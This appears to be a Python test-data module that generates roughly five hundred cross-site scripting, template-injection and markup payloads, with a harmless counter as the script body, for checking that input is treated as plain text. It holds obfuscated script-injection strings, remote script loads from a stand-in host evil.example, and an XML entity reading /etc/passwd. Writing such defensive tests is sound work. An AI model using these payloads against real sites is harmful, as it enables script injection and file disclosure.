"""Words that would become mark-up, script or an address if anything took them for more than words (threat T29)."""

from collections.abc import Iterator
from itertools import product

TRAP = "window.__trapped=(window.__trapped||0)+1"  # what an executed payload would do

_TAGS = (
    "<script>{js}</script>", "<script src=//evil.example/x.js></script>", "<script type=module>{js}</script>",
    "<img src=x onerror={js}>", "<img src=x onerror='{js}'>", '<img src="x" onerror="{js}">', "<svg onload={js}>",
    "<svg><script>{js}</script></svg>", "<svg><animate onbegin={js} attributeName=x dur=1s>", "<body onload={js}>",
    "<iframe src=javascript:{js}>", "<iframe srcdoc='<script>parent.{js}</script>'>", "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>", "<a href=javascript:{js}>x</a>", "<a href='JaVaScRiPt:{js}'>x</a>",
    "<a href='java&#09;script:{js}'>x</a>", "<a href=data:text/html,<script>{js}</script>>x</a>",
    "<form action=javascript:{js}><button>x</button></form>", "<button formaction=javascript:{js}>x</button>",
    "<input autofocus onfocus={js}>", "<details open ontoggle={js}>", "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>", "<marquee onstart={js}>", "<style>@import '//evil.example/x.css'</style>",
    "<style>*{{background:url(//evil.example/x)}}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<base href=//evil.example/>",
    "<math><mi xlink:href=javascript:{js}>x</mi></math>", "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<textarea autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>", "<keygen autofocus onfocus={js}>",
    "<div style='background:url(javascript:{js})'>",
    "<table background=javascript:{js}>", "<isindex action=javascript:{js}>", "<frameset onload={js}>",
)  # fmt: skip
_BEFORE = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "{{ 7*7 }}", "&quot;>", "\u2028", "\\",
)  # fmt: skip
_ALONE = (
    '" onmouseover={js} x="', "' onmouseover={js} x='", "` onmouseover={js} x=`", "javascript:{js}", "//evil.example",
    "data:text/html,<script>{js}</script>", "{{{{ 7 * 7 }}}}", "{{% raw %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>",
    "&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;", "\\u003cscript\\u003e{js}",
    "%3Cscript%3E{js}%3C/script%3E", "＜script＞{js}＜/script＞", "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<scr<script>ipt>{js}</scr</script>ipt>", "<<script>{js}//<</script>", "<script/x>{js}</script>",
    "<x onclick={js}>",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->", "<![CDATA[<script>{js}</script>]]>", "<?xml version='1.0'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "\u202e<script>{js}</script>", "\ufeff<script>{js}</script>",
    "[x](javascript:{js})", "![x](//evil.example/x)", "<sVg/oNlOaD={js}>", "<img/src=x/onerror={js}>",
    "<img src=x:x onerror={js}//", "<a title='a' href=\"javascript:{js}\">", "</p><p onclick={js}>",
    "<wbr onclick={js}>",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """Some five hundred distinct ones, in an order that never changes."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for before, tag in product(_BEFORE, _TAGS):
        yield before + tag.format(js=TRAP)
    for alone in _ALONE:
        yield alone.format(js=TRAP)
